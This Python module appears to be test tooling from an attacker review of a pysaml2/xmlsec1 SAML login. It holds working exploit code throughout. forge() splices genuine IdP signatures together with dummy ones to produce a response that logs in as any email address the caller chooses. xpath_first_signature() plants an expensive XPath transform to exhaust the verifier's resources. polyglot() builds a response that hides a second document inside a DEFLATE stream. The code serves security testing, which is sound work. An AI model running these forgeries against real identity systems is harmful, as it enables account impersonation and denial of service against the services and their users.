"""Forgeries an attacker builds from genuine signatures (found by an attacker review): the
duplicated-Signature trick, where pysaml2 reads the last Signature of an element and xmlsec1
verifies the first, so genuine signatures from two other responses go first and dummies that
look right to pysaml2 go last; and a first Signature carrying an XPath transform, which xmlsec1
would evaluate (at any cost) before checking a key."""

import re

DS_ENV = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"


def _strip_decl(xml):
    return re.sub(r"^<\?xml[^>]*>\s*", "", xml)


# pysaml2 names the namespaces ns0/ns1/ns2 or samlp/saml/ds, as ElementTree's registry has it.
def response_sig(xml):
    return re.search(r'<(\w+):Signature Id="Signature1">.*?</\1:Signature>', xml, re.S).group(0)


def assertion_of(xml):
    return re.search(r"<(\w+):Assertion .*?</\1:Assertion>", xml, re.S).group(0)


def assertion_sig(assertion):
    found = re.search(r'<(\w+):Signature Id="Signature2">.*?</\1:Signature>', assertion, re.S)
    return found.group(0)


def dummy_sig(ref, keyinfo=""):
    return (
        "<ns2:Signature><ns2:SignedInfo>"
        f'<ns2:CanonicalizationMethod Algorithm="{EXC}"/>'
        '<ns2:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
        f'<ns2:Reference URI="#{ref}"><ns2:Transforms><ns2:Transform Algorithm="{DS_ENV}"/>'
        f'<ns2:Transform Algorithm="{EXC}"/></ns2:Transforms>'
        '<ns2:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>'
        "<ns2:DigestValue>AAAA</ns2:DigestValue></ns2:Reference></ns2:SignedInfo>"
        "<ns2:SignatureValue>AAAA</ns2:SignatureValue>"
        + (f"<ns2:KeyInfo>{keyinfo}</ns2:KeyInfo>" if keyinfo else "")
        + "</ns2:Signature>"
    )


def forge(
    genuine1,
    genuine2,
    *,
    idp_entity,
    acs,
    audience,
    in_response_to,
    email,
    not_before,
    not_after,
    evil_id="id-evilresponse0001",
    evil_aid="id-evilassertion001",
):
    """genuine1: any IdP-signed response (its response signature is reused);
    genuine2: any other IdP-signed response (its assertion signature is reused)."""
    g1 = _strip_decl(genuine1)
    sig1 = response_sig(g1)
    g1_stripped = g1.replace(sig1, "", 1)
    a2 = assertion_of(genuine2)
    sig2 = assertion_sig(a2)
    a2_stripped = a2.replace(sig2, "", 1)
    ns = (
        'xmlns:ns0="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:ns1="urn:oasis:names:tc:SAML:2.0:assertion" '
        'xmlns:ns2="http://www.w3.org/2000/09/xmldsig#" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" '
        'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"'
    )
    irt = f' InResponseTo="{in_response_to}"' if in_response_to else ""
    scd_irt = f' InResponseTo="{in_response_to}"' if in_response_to else ""
    issuer = f'<ns1:Issuer Format="urn:oasis:names:tc:SAML:2.0:nameid-format:entity">{idp_entity}</ns1:Issuer>'
    assertion = (
        f'<ns1:Assertion Version="2.0" ID="{evil_aid}" IssueInstant="{not_before}">{issuer}'
        f"{sig2}{dummy_sig(evil_aid)}"
        f'<ns1:Subject><ns1:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">{email}</ns1:NameID>'
        '<ns1:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">'
        f'<ns1:SubjectConfirmationData NotOnOrAfter="{not_after}" Recipient="{acs}"{scd_irt}/>'
        "</ns1:SubjectConfirmation></ns1:Subject>"
        f'<ns1:Conditions NotBefore="{not_before}" NotOnOrAfter="{not_after}"><ns1:AudienceRestriction>'
        f"<ns1:Audience>{audience}</ns1:Audience></ns1:AudienceRestriction></ns1:Conditions>"
        f'<ns1:AuthnStatement AuthnInstant="{not_before}" SessionIndex="id-evilsession"><ns1:AuthnContext>'
        "<ns1:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
        "</ns1:AuthnContextClassRef></ns1:AuthnContext></ns1:AuthnStatement>"
        '<ns1:AttributeStatement><ns1:Attribute Name="email">'
        f"<ns1:AttributeValue>{email}</ns1:AttributeValue></ns1:Attribute></ns1:AttributeStatement>"
        "</ns1:Assertion>"
    )
    return (
        f'<?xml version="1.0"?>\n<ns0:Response {ns} ID="{evil_id}"{irt} Version="2.0" '
        f'IssueInstant="{not_before}" Destination="{acs}">{issuer}'
        f"{sig1}{dummy_sig(evil_id, keyinfo=g1_stripped + a2_stripped)}"
        '<ns0:Status><ns0:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></ns0:Status>'
        f"{assertion}</ns0:Response>"
    )


def xpath_first_signature(xml: str, depth: int = 100) -> str:
    """A copy of the response's signature, with an expensive XPath transform, put first."""
    genuine = response_sig(xml)
    expensive = (
        '<ns2:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116">'
        "<ns2:XPath>count(//node()[count(//node()) &gt; 0]) &gt; 0</ns2:XPath></ns2:Transform>"
    )
    ds = re.match(r"<(\w+):", genuine).group(1)
    bogus = re.sub(
        rf"<{ds}:Transforms>.*?</{ds}:Transforms>",
        f'<{ds}:Transforms><{ds}:Transform Algorithm="{DS_ENV}"/>'
        + expensive.replace("ns2:", f"{ds}:")
        + f"</{ds}:Transforms>",
        genuine.replace('Id="Signature1"', 'Id="Bogus"'),
        flags=re.S,
    )
    padding = "<x:a xmlns:x='urn:x'>" + "<x:b/>" * depth + "</x:a>"
    return xml.replace(genuine, bogus + genuine, 1).replace(
        f"</{ds}:X509Data>", f"</{ds}:X509Data>" + padding, 1
    )


# A response that is XML one way and DEFLATE the other (found by the second attacker review):
# the element name's prefix below is a dynamic-Huffman block header that turns the ASCII after
# it into whitespace; a DEL inside a comment ends that block and opens a stored one, whose
# raw payload (the comment's text) is another document. pysaml2 once inflated POSTed bytes first.
POLYGLOT_PREFIX = b"\xc6\xbb\xd5\xb5ipu-wL\xc6\xb8-\xd3\xabXF.F.\xc3\x8a\xc6\xb5Lo\xd8\xae\xe1\xba\xaes_\xd6\x82\xe1\xb8\xbc"


def _stored_length(minimum):
    best = None
    for high in range(0x40, 0x7F):
        for low in range(0x20, 0x3E):
            if low == 0x2D:
                continue
            n = low + 256 * high
            if n >= minimum and (best is None or n < best[0]):
                best = (n, low, high)
    n, low, high = best
    return n, bytes([low, high, low ^ 0xFF, high ^ 0xFF])


def polyglot(cover: str, hidden: str) -> bytes:
    """``cover`` as its XML reads, ``hidden`` as its DEFLATE stream inflates."""
    body = re.sub(r"^<\?xml[^>]*>\s*", "", cover)
    start = re.match(r"<(\w+):Response ([^>]*)>", body)
    inner = body[start.end() : body.rindex(f"</{start.group(1)}:Response>")]
    payload = re.sub(r"^<\?xml[^>]*>\s*", "", hidden).encode()
    assert b"--" not in payload
    assert not payload.endswith(b"-")
    n, header = _stored_length(len(payload))
    prefix = POLYGLOT_PREFIX
    head = (
        b"<"
        + prefix
        + b":Response xmlns:"
        + prefix
        + b'="urn:oasis:names:tc:SAML:2.0:protocol" '
        + start.group(2).encode()
        + b"><!--\x7fB"
    )
    return (
        head
        + header
        + payload
        + b" " * (n - len(payload))
        + b"-->"
        + inner.encode()
        + b"</"
        + prefix
        + b":Response>"
    )
